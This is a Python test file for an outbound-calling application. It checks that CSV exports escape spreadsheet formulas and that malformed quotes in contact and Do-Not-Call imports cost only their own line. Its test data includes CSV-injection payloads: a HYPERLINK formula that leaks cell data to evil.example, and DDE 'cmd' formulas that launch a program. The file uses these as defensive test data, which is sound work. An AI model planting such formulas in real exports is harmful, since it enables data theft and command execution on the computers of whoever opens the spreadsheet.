"""CSV files, as an attacker or a careless client would write them: a formula in a customer's data never runs in
the spreadsheet a supervisor opens, and a broken quote never swallows the rows after it."""

from __future__ import annotations

import csv
import io
from datetime import date

from sqlalchemy import select
from typer.testing import CliRunner

from outbound.cli import app
from outbound.db.models import Agent, Contact, DncImport, Suppression, Tenant
from outbound.db.session import transaction
from outbound.engagement.callback_outcomes import record_outcome
from outbound.engagement.callback_queue import claim_next
from outbound.ingest.contact_files import import_contacts
from outbound.ingest.dnc import import_dnc
from outbound.reporting.spreadsheets import spreadsheet_cell
from outbound.tenancy.agents import create_agent

# What a customer may give as a name or an agent may paste into notes (ids and notes are stored stripped, so a
# leading tab or carriage return reaches only the unit test below).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_a_formula_in_a_customers_data_is_text_in_the_callbacks_export_spreadsheet(world, clock, tmp_path):
    tenant = world.tenant("maple")
    with transaction(world.runtime.factory) as session:
        # A fresh Do-Not-Call list, without which a US tenant may not call anyone.
        session.add(DncImport(tenant_id=tenant.id, source="registry", list_date=clock.now(), imported_at=clock.now()))
        create_agent(session, session.merge(tenant), "alice", name="Alice", password="correct horse", clock=clock)
    for n, formula in enumerate(FORMULAS):
        world.contact(tenant, formula, phone=f"+1212555010{n}", consents=[("sms", "marketing")])
        world.event(tenant, "lead_created", formula)
    with transaction(world.runtime.factory) as session:
        owner = session.scalar(select(Tenant).where(Tenant.slug == "maple"))
        alice = session.scalar(select(Agent).where(Agent.username == "alice"))
        for formula in FORMULAS:
            task = claim_next(session, owner, alice, clock.now())
            record_outcome(session, owner, alice, task.id, "reached", now=clock.now(), notes=formula)
    out = tmp_path / "callbacks.csv"
    result = CliRunner().invoke(
        app, ["callbacks", "export", "--out", str(out), "--db", world.runtime.settings.database_url]
    )
    assert result.exit_code == 0, result.output

    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert sorted(row["contact"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert sorted(row["notes"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    # A phone number in E.164 starts with +: a spreadsheet reads it as a formula too, so it is text as well.
    assert {row["phone"][:3] for row in rows} == {"'+1"}
    # What cannot start a formula is written as it is.
    assert {row["tenant"] for row in rows} == {"maple"} and all(row["id"].isdigit() for row in rows)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_every_cell_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote():
    for formula in (*FORMULAS, "\t=1+1", "\r=1+1"):
        assert spreadsheet_cell(formula) == "'" + formula
    assert spreadsheet_cell("booked a demo, 3pm") == "booked a demo, 3pm"
    assert spreadsheet_cell("") == "" and spreadsheet_cell(None) == ""
    assert spreadsheet_cell("it's = fine") == "it's = fine"
    # Numbers the engine counted are numbers, whatever their sign.
    assert spreadsheet_cell(-1) == "-1" and spreadsheet_cell(3) == "3"


CONTACTS = """external_id,email,tier
c1,one@example.com,gold
c2,two@example.com,"silver
c3,three@example.com,bronze
c4,four@example.com,gold
"""


def test_an_unclosed_quote_in_a_contacts_csv_refuses_its_line_and_imports_the_rows_after_it(
    session, clock, make_tenant, tmp_path
):
    tenant = make_tenant()
    path = tmp_path / "contacts.csv"
    path.write_text(CONTACTS)
    report = import_contacts(session, tenant, path, clock)
    assert report.errors == ["line 3: unreadable CSV: the quote opened on this line is never closed"]
    assert report.created == 3
    stored = {c.external_id: c for c in session.scalars(select(Contact).where(Contact.tenant_id == tenant.id))}
    assert set(stored) == {"c1", "c3", "c4"}
    assert stored["c3"].attributes == {"tier": "bronze"}


def test_text_after_a_closing_quote_in_a_contacts_csv_refuses_that_line_only(session, clock, make_tenant, tmp_path):
    tenant = make_tenant()
    path = tmp_path / "contacts.csv"
    path.write_text(
        'external_id,email,tier\nc1,one@example.com,"gold\nc2,two@example.com,silver\nc3,three@example.com,"bronze" x\n'
        'c4,four@example.com,"gold, ""the best"""\n'
    )
    report = import_contacts(session, tenant, path, clock)
    assert report.errors == [
        "line 2: unreadable CSV: the quote opened on this line is closed on line 4 and followed by text "
        '(write a quote inside a quoted cell as "")',
        "line 4: unreadable CSV: the quote opened on this line is closed and followed by text "
        '(write a quote inside a quoted cell as "")',
    ]
    stored = {c.external_id: c for c in session.scalars(select(Contact).where(Contact.tenant_id == tenant.id))}
    assert set(stored) == {"c2", "c4"}
    assert stored["c4"].attributes == {"tier": 'gold, "the best"'}


def test_an_unclosed_quote_before_more_than_a_cell_can_hold_still_costs_only_its_line(
    session, clock, make_tenant, tmp_path
):
    tenant = make_tenant()
    path = tmp_path / "contacts.csv"
    rows = "".join(f"c{n},c{n}@example.com,gold\n" for n in range(3, 6003))
    path.write_text('external_id,email,tier\nc1,one@example.com,gold\nc2,two@example.com,"silver\n' + rows)
    report = import_contacts(session, tenant, path, clock)
    assert report.errors == ["line 3: unreadable CSV: a cell longer than 131072 characters (is a quote never closed?)"]
    assert report.created == 6001


def test_a_quoted_cell_over_several_lines_is_one_cell_and_a_row_it_swallows_is_named(
    session, clock, make_tenant, tmp_path
):
    tenant = make_tenant()
    path = tmp_path / "contacts.csv"
    path.write_text(
        'external_id,email,address\nc1,one@example.com,"1 Main St\nSpringfield"\n'
        'c2,two@example.com,"2 Main St\nc3,three@example.com,3 Main St\nc4,four@example.com,4 Main St",x\n'
        "c5,five@example.com,5 Main St\n"
    )
    report = import_contacts(session, tenant, path, clock)
    assert report.errors == ["line 4: expected 3 cells, found 4 (a quoted cell runs from line 4 to line 6)"]
    stored = {c.external_id: c for c in session.scalars(select(Contact).where(Contact.tenant_id == tenant.id))}
    assert set(stored) == {"c1", "c5"}
    assert stored["c1"].attributes == {"address": "1 Main St\nSpringfield"}


def test_an_unclosed_quote_in_a_dnc_list_refuses_its_line_and_imports_the_numbers_after_it(world, tmp_path):
    tenant = world.tenant()
    path = tmp_path / "dnc.csv"
    path.write_text('phone,note\n+1 512 555 0100,ok\n"+1 512 555 0101\n+1 512 555 0102,ok\n')
    with transaction(world.runtime.factory) as session:
        report = import_dnc(
            session,
            session.merge(tenant, load=False),
            path,
            list_date=date(2026, 11, 15),
            source="registry",
            clock=world.clock,
        )
    assert report.errors == ["line 3: unreadable CSV: the quote opened on this line is never closed"]
    assert report.added == 2
    with world.runtime.factory() as session:
        assert len(session.scalars(select(Suppression)).all()) == 2


def test_a_dnc_list_counts_its_lines_as_the_file_does(world, tmp_path):
    # A form feed or a Unicode line separator inside a line is not a line break in a CSV file.
    tenant = world.tenant()
    path = tmp_path / "dnc.csv"
    path.write_text("phone,note\n+1 512 555 0100,page\x0cbreak\n+1 512 555 0101,a\u2028b\nnot a number,x\n")
    with transaction(world.runtime.factory) as session:
        report = import_dnc(
            session,
            session.merge(tenant, load=False),
            path,
            list_date=date(2026, 11, 15),
            source="registry",
            clock=world.clock,
        )
    assert report.errors == ["line 4: not a valid phone number: 'not a number'"]
    assert report.added == 2
